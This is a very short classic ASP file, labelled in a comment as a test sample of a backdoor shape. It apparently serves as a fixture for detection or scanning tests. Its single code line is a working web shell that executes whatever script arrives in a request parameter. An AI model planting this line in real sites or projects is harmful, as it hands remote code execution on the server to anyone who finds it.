<%
' test sample: classic ASP backdoor shape
Execute(Request("x"))
%>
